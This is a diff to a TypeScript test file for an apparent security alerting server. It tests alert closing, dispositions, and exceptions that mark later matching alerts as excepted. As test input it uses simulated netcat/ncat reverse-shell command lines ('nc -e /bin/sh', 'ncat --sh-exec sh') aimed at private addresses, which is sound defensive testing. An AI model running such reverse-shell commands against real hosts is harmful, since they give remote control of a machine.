@@ -49,30 +49,43 @@ test('a netcat reverse shell raises the built-in alert, with author and MITRE te
   assert.equal(acked.body.status, 'acknowledged');
   await api('POST', `/api/v1/alerts/${alert.id}/comment`, { text: 'looking into it' });
   await api('POST', `/api/v1/alerts/${alert.id}/assign`, { assignee: 'alice' });
-  const closed = await api('POST', `/api/v1/alerts/${alert.id}/close`, { reason: 'red team exercise' });
+  const closed = await api('POST', `/api/v1/alerts/${alert.id}/close`, { reason: 'red team exercise', disposition: 'true_positive' });
   assert.equal(closed.body.status, 'closed');
   assert.equal(closed.body.close_reason, 'red team exercise');
   assert.equal(closed.body.assignee, 'alice');
   assert.deepEqual(closed.body.comments.map((c: any) => c.text), ['looking into it']);
   assert.equal((await api('POST', `/api/v1/alerts/${alert.id}/close`, {})).status, 400, 'closing needs a reason');
+  assert.equal((await api('POST', `/api/v1/alerts/${alert.id}/close`, { reason: 'x' })).status, 400, 'closing needs a disposition');
   assert.equal((await api('POST', '/api/v1/alerts/no-such-alert/acknowledge', {})).status, 404);
   const filtered = await api('GET', '/api/v1/alerts?status=closed&severity=high');
   assert.ok(filtered.body.alerts.some((a: any) => a.id === alert.id));
   assert.equal((await api('GET', '/api/v1/alerts?status=bogus')).status, 400);
 });
 
-test('a suppressed rule keeps raising alerts, but they arrive suppressed until the expiry', async () => {
+test('an exception made from an alert: later matching alerts arrive excepted and are not told to listeners; others stay open', async () => {
+  const told: string[] = [];
+  t.server.detection.onAlert((a) => told.push(a.id));
   const first = processStart('/usr/bin/ncat', ['/usr/bin/ncat', '10.1.1.1', '9001', '--sh-exec', 'sh']);
   await t.agent.send([first]);
   const [a] = await eventually(async () => ((await alertsFor(first.event.id)).length ? alertsFor(first.event.id) : undefined), 'the alert');
-  const until = new Date(Date.now() + 3_600_000).toISOString();
-  const s = await api('POST', `/api/v1/alerts/${a.id}/suppress`, { reason: 'known admin script', until });
-  assert.equal(s.body.status, 'suppressed');
+  assert.ok(told.includes(a.id), 'the first alert is told to listeners');
+  assert.equal((await api('POST', `/api/v1/alerts/${a.id}/suppress`, { reason: 'r', until: new Date(Date.now() + 60_000).toISOString() })).body.code, 'suppress_removed');
+  const e = await api('POST', `/api/v1/alerts/${a.id}/exception`, { fields: ['process.executable'], reason: 'known admin script' });
+  assert.equal(e.status, 201);
+  assert.deepEqual(e.body.conditions, [{ field: 'process.executable', op: 'equals', value: '/usr/bin/ncat' }]);
   const second = processStart('/usr/bin/ncat', ['/usr/bin/ncat', '10.1.1.2', '9001', '--sh-exec', 'sh']);
-  await t.agent.send([second]);
+  const other = processStart('/usr/bin/nc', ['/usr/bin/nc', '-e', '/bin/sh', '10.1.1.3', '9001']);
+  await t.agent.send([second, other]);
   const [b] = await eventually(async () => ((await alertsFor(second.event.id)).length ? alertsFor(second.event.id) : undefined), 'the second alert');
-  assert.equal(b.status, 'suppressed');
-  assert.equal(b.suppressed_until, until);
+  const [c] = await eventually(async () => ((await alertsFor(other.event.id)).length ? alertsFor(other.event.id) : undefined), 'the other alert');
+  assert.deepEqual([b.status, b.exception_id], ['excepted', e.body.id]);
+  assert.equal(c.status, 'open', 'another executable is not excepted');
+  assert.ok(!told.includes(b.id), 'the excepted alert is not told to listeners (sinks, live feed)');
+  assert.ok(told.includes(c.id));
+  const excepted = await api('GET', '/api/v1/alerts?status=excepted');
+  assert.ok(excepted.body.alerts.some((x: any) => x.id === b.id));
+  const deleted = await fetch(`${t.server.httpUrl}/api/v1/exceptions/${e.body.id}`, { method: 'DELETE', headers: { authorization: `Bearer ${t.key}` } });
+  assert.equal(deleted.status, 204);
 });
 
 const CUSTOM_RULE = `title: Test marker tool
